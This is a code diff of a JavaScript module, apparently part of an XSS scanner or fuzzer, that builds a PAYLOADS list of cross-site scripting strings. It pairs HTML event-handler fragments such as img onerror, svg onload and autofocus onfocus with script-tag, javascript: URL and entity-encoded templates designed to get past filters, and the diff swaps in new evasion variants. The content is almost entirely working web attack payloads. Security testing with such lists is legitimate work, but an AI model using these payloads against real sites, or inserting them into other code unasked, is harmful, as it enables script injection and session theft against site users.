@@ -7,8 +7,8 @@ export const PAYLOADS = [...texts(), ...attributes(), ...addresses(), ...scripts
 function texts() {
   const events = ["img src=x onerror", "img src onerror", "image src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "input autofocus onfocus",
     "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus", "details open ontoggle", "iframe onload", "object data=x onerror", "embed src=x onload",
-    "style onload", "marquee onstart", "a href=# autofocus onfocus", "div contenteditable autofocus onfocus", "p tabindex=1 autofocus onfocus", "svg><animate attributeName=x dur=1s onbegin",
-    "svg><set attributeName=x onbegin", "video><source onerror", "link rel=stylesheet href=x onerror", "script src=x onerror", "table background=x onload", "frameset onload", "track src=x onerror"];
+    "style onload", "body onpageshow", "a href=# autofocus onfocus", "div contenteditable autofocus onfocus", "p tabindex=1 autofocus onfocus", "svg><animate attributeName=x dur=1s onbegin",
+    "svg><set attributeName=x onbegin", "video><source onerror", "link rel=stylesheet href=x onerror", "img srcset=x onerror", "picture><img srcset=x onerror", "frameset onload", "svg><image href=x onerror"];
   return [
     (js) => `<script>${js}</script>`,
     (js) => `<ScRiPt>${js}</sCrIpT>`,
@@ -16,7 +16,7 @@ function texts() {
     (js) => `<script/x>${js}</script/x>`,
     (js) => `<script\t>${js}</script>`,
     (js) => `<<script>${js}//<</script>`,
-    (js) => `<script>${js}<!--`,
+    (js) => `<script>/*<!--*/${js}</script>`,
     (js) => `<svg><script>${js}</script></svg>`,
     (js) => `<svg><script>${js.replace("(", "&#40;").replace(")", "&#41;")}</script></svg>`,
     (js) => `<script type=module>${js}</script>`,
@@ -26,7 +26,7 @@ function texts() {
     (js) => `<object data="javascript:${js}"></object>`,
     (js) => `<embed src="javascript:${js}">`,
     (js) => `<img src=x onerror=${js.replace("(", "&lpar;").replace(")", "&rpar;")}>`,
-    (js) => `<img/src=x/onerror=${js}>`,
+    (js) => `<img/src="x"/onerror=${js}>`,
     (js) => `<img src=x onerror="${js}">`,
     (js) => `<img src='x' onerror='${js}'>`,
     (js) => `<img src=\`x\` onerror=${js}>`,
